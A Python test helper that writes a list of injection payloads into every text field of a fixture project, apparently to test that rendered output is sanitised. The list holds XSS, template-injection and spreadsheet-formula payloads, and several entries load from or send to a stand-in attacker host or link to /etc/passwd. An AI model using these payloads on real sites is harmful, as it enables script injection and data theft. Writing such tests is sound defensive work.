"""The made-up project in, the same with attacks in every text out: what people write may be meant to run."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

from scorecard.reading.text import Listing, Node, Scalar, parse
from tests.golden.accept import PROJECT

DICTIONARY = Path(__file__).resolve().parents[2] / "docs" / "data-dictionary.md"
NO_PROSE = {"contact", "drafts", "language"}  # called texts, and held against rules of their own

ATTACKS = (
    "<script>window.PWN=1</script>",
    "<img src=x onerror=window.PWN=1>",
    "<svg onload=window.PWN=1>",
    "<svg><script>window.PWN=1</script></svg>",
    "\"><script>window.PWN=1</script>",
    "'><script>window.PWN=1</script>",
    "</title><script>window.PWN=1</script>",
    "</style><script>window.PWN=1</script>",
    "</textarea><script>window.PWN=1</script>",
    "--><script>window.PWN=1</script><!--",
    "]]><script>window.PWN=1</script>",
    "\" autofocus onfocus=window.PWN=1 x=\"",
    "' onmouseover='window.PWN=1",
    " onmouseover=window.PWN=1 ",
    "`onmouseover=window.PWN=1`",
    "<iframe src=javascript:parent.PWN=1>",
    "<iframe srcdoc='<script>parent.PWN=1</script>'>",
    "<object data=javascript:window.PWN=1>",
    "<meta http-equiv=refresh content='0;url=javascript:window.PWN=1'>",
    "<base href=//attacker.example/>",
    "<form action=//attacker.example/><input autofocus onfocus=window.PWN=1>",
    "<details open ontoggle=window.PWN=1>",
    "<video><source onerror=window.PWN=1></video>",
    "<style>@import '//attacker.example/x.css'</style>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.PWN=1>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<img src=//attacker.example/x.png>",
    "[x](javascript:window.PWN=1)",
    "[x](JaVaScRiPt&colon;window.PWN=1)",
    "[x](data:text/html,<script>parent.PWN=1</script>)",
    "[x](//attacker.example)",
    "[x](https://user:word@attacker.example)",
    "![x](https://attacker.example/x.png)",
    "[x](https://a.example/\" onclick=window.PWN=1 \")",
    "<javascript:window.PWN=1>",
    "<https://a.example/\"onclick=window.PWN=1>",
    "[x]: javascript:window.PWN=1",
    "&lt;script&gt;window.PWN=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.PWN=1\\u003c/script\\u003e",
    "{{ 7*7 }} {% raw %} {{ page.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "javascript:window.PWN=1",
    "=HYPERLINK(\"//attacker.example\")",
    "+1 @SUM(A1) -1",
    "expression(window.PWN=1); background: url(//attacker.example/x.png)",
    "}; window.PWN=1; //",
    "\"}]}</script><script>window.PWN=1</script>",
)  # fmt: skip


def text_keys() -> set[str]:
    """List the keys that take any text, as the data dictionary has them."""
    found = re.findall(r"^\| `(\w+)` \| (?:text|Markdown) \|", DICTIONARY.read_text(encoding="utf-8"), re.MULTILINE)
    return set(found) - NO_PROSE


def planted(folder: Path, attack: str) -> Path:
    """Copy the made-up project and write an attack into every text of every file."""
    root, keys = Path(shutil.copytree(PROJECT, folder)), text_keys()
    for path in sorted(root.rglob("*.yaml")):
        node, _ = parse(path.read_text(encoding="utf-8"), path.name)
        path.write_text(json.dumps(_with(node, "", keys, attack), ensure_ascii=False, indent=1), encoding="utf-8")
    for path in sorted(root.glob("pages/*.md")):
        path.write_text(f"# {attack}\n\n{attack}\n\n- {attack}\n\n> {attack}\n\n{attack}\n===\n", encoding="utf-8")
    return root


def _with(node: Node | None, key: str, keys: set[str], attack: str) -> object:
    """Give a node as plain lists and tables; what is a text behind a key of `keys` becomes the attack."""
    if isinstance(node, Scalar):
        is_text = key in keys and not re.fullmatch(r"[0-9]+", node.value)
        return attack if is_text else node.value
    if isinstance(node, Listing):
        return [_with(one, key, keys, attack) for one in node.items]
    if node is None:
        return None
    names = ((one, "title" if key == "elements" else one.key.value) for one in node.entries if one.value is not None)
    return {one.key.value: _with(one.value, name, keys, attack) for one, name in names}
